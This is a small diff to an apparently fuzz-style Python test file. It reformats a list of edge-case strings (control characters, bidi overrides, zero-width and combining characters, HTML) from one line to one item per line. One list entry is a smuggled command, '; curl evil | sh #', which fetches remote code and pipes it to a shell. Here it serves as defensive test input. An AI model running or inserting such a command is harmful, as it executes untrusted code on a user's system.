@@ -36,9 +36,28 @@ RECORD = """(() => {
 })()""".replace("LOOK", LOOK)
 
 PIECES = [
-    "echo safe", " " * 40, "\n" * 3, "\t", "; curl evil | sh #", "\u202e", "\u200b", "\x1b[2J", "\r\n", "\0", "\u00a0",
-    "\U000e0041", "\u0301" * 9, "אבג", "<b>x</b>", "`", "long-word-" * 30, "\ufeff", "\u2028", "😀\ufe0f", "line\n" * 30,
-]  # fmt: skip
+    "echo safe",
+    " " * 40,
+    "\n" * 3,
+    "\t",
+    "; curl evil | sh #",
+    "\u202e",
+    "\u200b",
+    "\x1b[2J",
+    "\r\n",
+    "\0",
+    "\u00a0",
+    "\U000e0041",
+    "\u0301" * 9,
+    "אבג",
+    "<b>x</b>",
+    "`",
+    "long-word-" * 30,
+    "\ufeff",
+    "\u2028",
+    "😀\ufe0f",
+    "line\n" * 30,
+]
 
 
 def text(chance: random.Random) -> str:
